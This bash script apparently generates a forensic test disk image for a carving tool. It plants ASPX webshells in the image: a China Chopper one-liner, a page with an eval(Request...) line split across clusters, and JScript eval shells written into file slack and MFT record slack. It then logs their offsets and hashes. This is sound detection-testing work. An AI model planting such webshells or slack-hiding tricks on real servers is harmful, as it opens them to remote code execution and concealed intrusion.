#!/usr/bin/env bash
# make-carve-image.sh [OUTDIR]
#
# Builds test-images/carve.raw.gz, the image the carving tests read, with the same real
# tools and frozen fake clock as make-test-images.sh (whose helpers it sources):
#   * chopper.aspx   China Chopper one-liner padded to 1.5 KiB: one cluster, non-resident
#   * span.aspx      a 6000-byte page whose eval(Request...) line crosses the boundary
#                    between its two clusters (allocated contiguously on the fresh volume)
#   both deleted, then their MFT entries reused by new small (resident) files, so their
#   names are gone and only their clusters -- still free -- hold them;
#   * readme.txt     5000 bytes of text; a webshell written raw into its file slack
#   * index.htm      small page whose MFT record slack gets a webshell written raw
# The facts tests check (offsets, sizes, SHA-256, entries) go to
# test-images/expected/carve.facts.env; blkls/istat answer the rest at test time.
#
# Requirements: those of make-test-images.sh (root, /dev/fuse, ntfs-3g, libfaketime, TSK).
set -euo pipefail
MAKE_TEST_IMAGES_HELPERS_ONLY=1 source "$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)/make-test-images.sh" "${1:-}"

img=$WORK/carve.raw
WR=inetpub/wwwroot
SLACK_SHELL='<%@ Page Language="Jscript"%><%eval(Request.Item["file_slack"],"unsafe");%>'
MFT_SHELL='<%@ Page Language="Jscript"%><%eval(Request.Item["mft_slack"],"unsafe");%>'

log "carve.raw: mkntfs"
at "2024-01-10 08:00:00"
mkfs_ntfs "$img" 8M CARVE 0

log "carve.raw: session 1 (pages)"
ntfs_mount "$img"
(
    cd "$MNT"
    at "2024-01-10 09:00:00.1111111"
    mkdir -p "$WR/aspnet_client" inetpub/temp
    printf '<html><body>it works</body></html>\r\n' > "$WR/index.htm"
    at "2024-01-11 10:00:00.2222222"
    { printf '%s\r\n' "$ONELINER"
      for i in $(seq -w 1 40); do printf '<!-- carve test padding line %s -->\r\n' "$i"; done
    } > "$WR/aspnet_client/chopper.aspx"
    at "2024-01-11 10:01:00.3333333"
    python3 - "$WR/span.aspx" <<'PYEOF'
import sys
head = b'<%@ Page Language="Jscript"%>\r\n<html><body>\r\n'
line = b'<p>quarterly numbers are in the other folder, nothing to see here</p>\r\n'
body = head + line * ((4050 - len(head)) // len(line))
body += b'<%eval(Request.Item["span_test"],"unsafe");%>\r\n'   # crosses byte 4096
body += b'<p>tail</p>\r\n' * ((6000 - len(body)) // 13)
open(sys.argv[1], 'wb').write(body + b'.' * (6000 - len(body)))
PYEOF
    at "2024-01-11 10:02:00.4444444"
    python3 -c 'import sys; sys.stdout.buffer.write((b"release notes, nothing hidden here\r\n" * 200)[:5000])' \
        > "$WR/readme.txt"
)
ntfs_umount

entry_of() { ifind -n "$1" "$img"; }
first_lcn() { istat "$img" "$1" | sed -n '/^Type: \$DATA (128-[0-9]*)/{n;p;q}' | awk '{print $1}'; }
CHOPPER_ENTRY=$(entry_of "/$WR/aspnet_client/chopper.aspx")
SPAN_ENTRY=$(entry_of "/$WR/span.aspx")
README_ENTRY=$(entry_of "/$WR/readme.txt")
INDEX_ENTRY=$(entry_of "/$WR/index.htm")
CHOPPER_LCN=$(first_lcn "$CHOPPER_ENTRY")
SPAN_LCN=$(first_lcn "$SPAN_ENTRY")
README_LCN=$(first_lcn "$README_ENTRY")   # 5000 bytes: two clusters, slack in the second
[ "$(istat "$img" "$SPAN_ENTRY" | sed -n '/^Type: \$DATA (128-[0-9]*)/{n;p;q}' | awk '{print $2}')" = $((SPAN_LCN + 1)) ] \
    || die "span.aspx is not in two contiguous clusters"
CHOPPER_SHA256=$(icat "$img" "$CHOPPER_ENTRY" | sha256sum | cut -d' ' -f1)
CHOPPER_SIZE=$(icat "$img" "$CHOPPER_ENTRY" | wc -c)
SPAN_SHA256=$(icat "$img" "$SPAN_ENTRY" | sha256sum | cut -d' ' -f1)

log "carve.raw: session 2 (delete the pages, reuse their MFT entries)"
ntfs_mount "$img"
(
    cd "$MNT"
    at "2024-01-12 11:00:00.5555555"
    rm "$WR/aspnet_client/chopper.aspx" "$WR/span.aspx"
    at "2024-01-12 11:05:00.6666666"
    for i in 1 2 3 4; do printf 'reused entry %s\r\n' "$i" > "inetpub/temp/new$i.tmp"; done
)
ntfs_umount
for e in $CHOPPER_ENTRY $SPAN_ENTRY; do
    istat "$img" "$e" | grep -q '^Allocated File' || die "MFT entry $e was not reused"
    istat "$img" "$e" | grep -q 'new[0-9].tmp' || die "MFT entry $e holds no new file"
done
blkls -l "$img" | grep -q "^$CHOPPER_LCN|f" || die "cluster $CHOPPER_LCN of chopper.aspx was reallocated"

log "carve.raw: raw writes into file slack and MFT record slack"
# readme.txt: 5000 bytes, so its second cluster holds 904 bytes of data then slack; the
# shell goes 100 bytes into the slack (zeros between). Index.htm's record: the shell goes
# at byte 512 of the record (after the first sector's update sequence slot, below the
# second's), well past the record's used size.
read -r FILE_SLACK_OFFSET MFT_SLACK_OFFSET < <(python3 - "$img" "$WORK" "$README_LCN" "$INDEX_ENTRY" \
    "$SLACK_SHELL" "$MFT_SHELL" <<'PYEOF'
import struct, sys
sys.path.insert(0, sys.argv[2])
from helpers import Vol
img, readme_lcn, index_entry = sys.argv[1], int(sys.argv[3]), int(sys.argv[4])
slack_shell, mft_shell = sys.argv[5].encode(), sys.argv[6].encode()
v = Vol(img)
file_slack = v.base + (readme_lcn + 1) * v.cluster + 5000 % v.cluster + 100
record = v.record_offset(index_entry)
v.f.seek(record)
used = struct.unpack_from('<I', v.f.read(v.recsize), 0x18)[0]
assert used < 500, 'index.htm record too full for the test: %d' % used
mft_slack = record + 512
for offset, data in ((file_slack, slack_shell), (mft_slack, mft_shell)):
    v.f.seek(offset)
    assert v.f.read(len(data)) == bytes(len(data)), 'slack not zero at %d' % offset
    v.f.seek(offset)
    v.f.write(data)
v.f.close()
print(file_slack, mft_slack)
PYEOF
)
[ -n "$MFT_SLACK_OFFSET" ] || die "slack writes failed"
sha() { printf '%s' "$1" | sha256sum | cut -d' ' -f1; }

log "carve.raw: publishing"
gzip -9 -n -c "$img" > "$OUTDIR/carve.raw.gz"
mkdir -p "$OUTDIR/expected"
cat > "$OUTDIR/expected/carve.facts.env" <<EOF
# generated by scripts/make-carve-image.sh -- where the planted content of carve.raw is
CARVE_CLUSTER_SIZE=4096
CARVE_CHOPPER_ENTRY=$CHOPPER_ENTRY
CARVE_CHOPPER_OFFSET=$((CHOPPER_LCN * 4096))
CARVE_CHOPPER_LCN=$CHOPPER_LCN
CARVE_CHOPPER_SIZE=$CHOPPER_SIZE
CARVE_CHOPPER_SHA256=$CHOPPER_SHA256
CARVE_SPAN_ENTRY=$SPAN_ENTRY
CARVE_SPAN_OFFSET=$((SPAN_LCN * 4096))
CARVE_SPAN_SIZE=6000
CARVE_SPAN_SHA256=$SPAN_SHA256
CARVE_FILE_SLACK_ENTRY=$README_ENTRY
CARVE_FILE_SLACK_OFFSET=$FILE_SLACK_OFFSET
CARVE_FILE_SLACK_SIZE=${#SLACK_SHELL}
CARVE_FILE_SLACK_SHA256=$(sha "$SLACK_SHELL")
CARVE_MFT_SLACK_ENTRY=$INDEX_ENTRY
CARVE_MFT_SLACK_OFFSET=$MFT_SLACK_OFFSET
CARVE_MFT_SLACK_SIZE=${#MFT_SHELL}
CARVE_MFT_SLACK_SHA256=$(sha "$MFT_SHELL")
CARVE_RAW_MD5=$(md5sum < "$img" | cut -d' ' -f1)
EOF
log "done: $OUTDIR/carve.raw.gz ($(stat -c %s "$OUTDIR/carve.raw.gz") bytes)"
